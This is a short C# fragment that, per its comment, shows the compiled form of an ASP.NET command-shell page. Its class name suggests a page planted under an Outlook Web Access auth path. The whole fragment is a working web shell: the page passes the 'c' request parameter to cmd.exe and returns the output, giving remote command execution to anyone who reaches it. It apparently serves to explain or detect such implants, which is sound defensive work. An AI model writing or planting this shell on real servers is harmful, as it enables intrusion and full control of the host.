// What ASP.NET generates for an inline command-shell page (class ASP.<page>_aspx deriving from
// System.Web.UI.Page, the page's <script runat="server"> code as members).
namespace ASP {
    public class owa_auth_cmd_aspx : System.Web.UI.Page {
        protected void Page_Load(object sender, System.EventArgs e) {
            string c = Request["c"];
            if (c == null) return;
            var psi = new System.Diagnostics.ProcessStartInfo();
            psi.FileName = "cmd.exe";
            psi.Arguments = "/c " + c;
            psi.UseShellExecute = false;
            psi.RedirectStandardOutput = true;
            var p = System.Diagnostics.Process.Start(psi);
            Response.Write(p.StandardOutput.ReadToEnd());
        }
    }
}
